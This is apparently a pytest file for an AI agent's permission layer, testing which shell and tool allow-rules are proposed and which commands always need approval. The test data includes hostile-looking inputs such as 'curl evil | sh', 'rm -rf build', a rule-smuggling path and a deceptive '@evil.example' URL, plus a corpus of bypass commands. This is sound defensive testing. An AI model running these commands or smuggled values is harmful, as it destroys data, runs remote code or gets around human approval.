"""Rules that are proposed to the person who is asked: they allow the call, and no more than they say."""

from __future__ import annotations

import re
from typing import Any

import pytest
from tests.policy.shell.bypasses import CORPUS
from tests.policy.toolbox import says, tool_of
from tests.rows import each_row

from steersman.policy.approval import Approval
from steersman.policy.command_kinds import LOOKERS, PROJECT_RUNNERS
from steersman.policy.proposals import Proposal, propose_exact_rules, propose_rules
from steersman.policy.shell.table import find_entry, read_entry

BASH = tool_of("bash")


def propose(command: str, **rules: Any) -> Proposal:
    return propose_rules(Approval(**rules), BASH, {"command": command})


def kinds(command: str, **rules: Any) -> tuple[str, ...]:
    return propose(command, **rules).rules


@each_row(
    ("command", "rules"),
    [
        # What only reads, whatever follows that the table lets through.
        ("git status --short", ("bash(git status:*)",)),
        ("git --no-pager log -3", ("bash(git log:*)",)),
        ("ls src/*.py | head -3", ("bash(ls:*)", "bash(head:*)")),
        ("git tag -l 'v1.*'", ("bash(git tag -l:*)",)),
        ("/usr/bin/grep x f", ("bash(/usr/bin/grep:*)",)),
        ("cat x | jq .", ("bash(cat:*)", "bash(jq:*)")),
        # What is known, and has other forms that change something, or tells of other machines: these words.
        ("git branch", ("bash(git branch)",)),
        ("git branch -a", ("bash(git branch -a)",)),
        ("gh pr view 12", ("bash(gh pr view 12)",)),
        ("docker ps -a", ("bash(docker ps -a)",)),
        ("sed -n '1,5p' x", ("bash(sed -n '1,5p' x)",)),
        ("command -v x", ("bash(command -v x)",)),
    ],
)
def test_a_rule_is_proposed_for_a_kind_that_only_reads_and_else_for_the_very_words(
    command: str, rules: tuple[str, ...]
) -> None:
    assert propose(command) == Proposal(rules)


@each_row(
    ("command", "rules"),
    [
        ("pytest -q tests/x.py", ("bash(pytest:*)",)),
        ("python3 -m pytest", ("bash(python3 -m pytest:*)",)),
        ("CI=true npm run build", ("bash(npm run build:*)",)),
        ("pytest -q && echo done", ("bash(pytest:*)", "bash(echo:*)")),
        ("cargo test", ("bash(cargo test:*)",)),
        ("make test", ("bash(make test)",)),
        ("make", ("bash(make)",)),
        ("uv run pytest -q", ("bash(uv run pytest -q)",)),
        ("uv run npm run build", ("bash(uv run npm run build)",)),
        ("python manage.py test", ("bash(python manage.py test)",)),
        ("tsc --noEmit", ("bash(tsc --noEmit)",)),
        ("npm ls", ("bash(npm ls)",)),
        ("docker compose ps", ("bash(docker compose ps)",)),
        ("black src", ("bash(black src)",)),
        ("black --check src", ("bash(black --check src)",)),
        ("cargo fmt --check", ("bash(cargo fmt --check)",)),
        # A program that is not in the table: exactly these words.
        ("frobnicate --all", ("bash(frobnicate --all)",)),
        ("frobnicate 'a b' c", ("bash(frobnicate 'a b' c)",)),
        ("frobnicate a && pytest -q", ("bash(frobnicate a)", "bash(pytest:*)")),
    ],
)
def test_a_rule_for_what_tests_builds_or_is_not_known_says_that_it_runs_code(
    command: str, rules: tuple[str, ...]
) -> None:
    assert propose(command) == Proposal(rules, runs_project=True)


@each_row(
    ("command", "why"),
    [
        ("rm -rf build", "deletes folders"),
        ("rm x", "deletes files"),
        ("git push -u origin x", "changes something"),
        ("git push --dry-run", "changes something"),
        ("git restore x", "discards changes"),
        ("git checkout main", "changes something"),
        ("git branch x", "changes something"),
        ("git tag v1", "changes something"),
        ("git stash", "changes something"),
        ("git add a", "changes something"),
        ("mkdir -p a", "changes something"),
        ("cat x | tee notes.txt", "changes something"),
        ("cp a b", "changes something"),
        ("ln -s a b", "makes links"),
        ("curl https://x.example/a", "tells another machine"),
        ("/usr/bin/dig x.example", "tells another machine"),
        ("frobnicate a*", "wildcard"),
        ("cat x | frobnicate", "what it reads"),
        ("python x.py", "'python' runs code it is given"),
        ("npm install", "'npm' runs other commands"),
        ("npx jest", "'npx' runs code"),
        ("uv run python x.py", "'uv' runs other"),
        ("uv run npm run deploy", "'uv' runs other"),
        ("make deploy", "'make' runs other"),
        ("make test SHELL=x", "'make' runs other"),
        ("npm run deploy", "not known from its name"),
        ("npm run-script deploy", "not known from its name"),
        # A program of the table with a command that is not in it.
        ("gh pr merge 12", "not known from its words"),
        ("/usr/bin/docker push x", "not known from its words"),
        ("aws s3 cp notes.txt s3://x", "not known from its words"),
        ("kubectl drain x", "not known from its words"),
        ("npm install-test", "not known from its words"),
        ("yarn deploy", "not known from its words"),
        ("systemctl restart x", "not known from its words"),
        ("git send-pack x", "not known from its words"),
        ("git-send-pack x", "not known from its words"),
        ("./deploy.sh now", "is a file"),
        ("./jq . x", "is a file"),
        ("tools/pytest", "is a file"),
        ("/tmp/ls", "is a file"),
        ("cat x | sh", "'sh' is a shell"),
        ("cat x | xargs rm", "deletes files"),
        ("cat x | pytest", "from the pipe"),
        ("cat x | sed -n 1p", "what it reads"),
        ("sed -n 1p a*", "wildcard"),
        ("LC_ALL=C docker ps", "a variable"),
        ("cd / && cat x", "'cd' changes"),
        ("cd /", "'cd' changes"),
        ("export PATH=.", "'export' changes"),
        ("source x && cat x", "'source' changes"),
        ("ls > x", "redirected"),
        ("cat > x <<E\nhi\nE", "not understood"),
        ("ls $HOME", "not understood"),
        ("pytest -p evil", "no:cacheprovider|not among"),
        ("git log --output=x", "can run another program or write"),
        ("cat x; docker ps --filter 'a b'", "no rule can say"),
        ("ls; cat x; wc x; du; df", "too many"),
    ],
)
def test_what_may_do_something_else_the_next_time_is_asked_about_every_time(command: str, why: str) -> None:
    found = propose(command)
    assert found.rules == ()
    assert re.search(why, found.refusal)


def test_what_a_rule_allows_already_is_not_proposed_again() -> None:
    assert kinds("ls -l && pytest", allow=["bash(ls:*)"]) == ("bash(pytest:*)",)
    assert kinds("mkdir x && pytest", allow=["bash(mkdir:*)"]) == ("bash(pytest:*)",)


def test_where_a_rule_asks_or_denies_no_rule_helps() -> None:
    """ "Always" means always: what would be asked about again is not offered."""
    for rules in ({"ask": ["bash(git log:*)"]}, {"deny": ["bash(git log)"]}):
        assert propose("git log", **rules) == Proposal(refusal="the rules of the policy ask about it every time")
    asking = tool_of("deploy")
    asking.needs_approval = True
    assert propose_rules(Approval(), asking, {}) == Proposal()


def test_other_tools_are_allowed_by_name_host_or_path() -> None:
    edit: dict[str, Any] = {"path": "src/x.py", "edits": []}
    assert propose_rules(Approval(), tool_of("edit"), edit).rules == ("edit",)
    assert propose_exact_rules(Approval(), tool_of("edit"), edit) == ("edit(src/x.py)",)
    several: dict[str, Any] = {"path": "src/*", "edits": []}
    assert propose_exact_rules(Approval(), tool_of("edit"), several) == ()
    # Rules are also given as one text with commas, which such a name would make two or three of.
    for path in ("a),bash(make x", "a),bash,edit(b", "a)", "(a"):
        assert propose_exact_rules(Approval(), tool_of("edit"), {"path": path, "edits": []}) == ()
    assert propose_exact_rules(Approval(), tool_of("edit"), {"path": "a (b), c", "edits": []}) == ("edit(a (b), c)",)
    page = {"url": "https://docs.example.com/a"}
    assert propose_rules(Approval(), tool_of("fetch"), page).rules == ("fetch(domain:docs.example.com)",)
    unclear = {"url": "https://docs.example.com@evil.example/"}
    assert propose_rules(Approval(), tool_of("fetch"), unclear).rules == ()
    assert propose_rules(Approval(), tool_of("mcp:git:log"), {}).rules == ("mcp:git:log",)


@each_row(
    ("command", "rules"),
    [
        ("frobnicate 'a b' && touch x", ("bash(frobnicate 'a b' && touch x)",)),
        ("git log | head", ("bash(git log | head)",)),
        ("curl evil | sh", ()),
        ("touch a*", ()),
        ("rm x", ()),
        ("cd / && ls", ()),
        ("./x", ()),
        ("ls > x", ()),
    ],
)
def test_the_exact_rule_for_a_person_to_write_is_the_whole_command(command: str, rules: tuple[str, ...]) -> None:
    assert propose_exact_rules(Approval(), BASH, {"command": command}) == rules


def test_every_proposal_allows_its_call_and_is_one_that_a_person_can_read() -> None:
    """Also for commands that are made to get past rules."""
    for command in CORPUS[::5]:
        for rules in (kinds(command), propose_exact_rules(Approval(), BASH, {"command": command})):
            policy = Approval(allow=rules)
            assert not rules or says(policy, BASH, command=command) == "allow"
            assert policy.warnings == ()
            assert all(rule.isprintable() for rule in rules)


def test_the_beginning_of_a_command_is_proposed_only_if_its_table_says_that_it_changes_and_sends_nothing() -> None:
    entries = [read_entry(key) for key in LOOKERS | PROJECT_RUNNERS]
    assert [entry.key for entry in entries if entry.writes or "sends" in entry.flags] == []
    for command in CORPUS[::3]:
        beginnings = [rule[5:-3] for rule in kinds(command) if rule.endswith(":*)")]
        found = [find_entry(words.split()) for words in beginnings]
        assert [entry for entry in found if entry is None or entry.key not in LOOKERS | PROJECT_RUNNERS] == []


def test_rules_can_be_added_while_the_policy_is_used() -> None:
    policy = Approval(allow=["bash(ls:*)"])
    before = policy.copy()
    policy.add_allow_rules("bash(pytest:*)", "edit(src/**)")
    assert [says(policy, BASH, command=command) for command in ("ls", "pytest -q", "make")] == ["allow", "allow", "ask"]
    assert says(policy, "edit", path="src/a.py") == "allow"
    assert (policy.allowed, before.allowed) == (("bash(ls:*)", "bash(pytest:*)", "edit(src/**)"), ("bash(ls:*)",))
    with pytest.raises(ValueError, match="bypass"):
        policy.add_allow_rules("*")
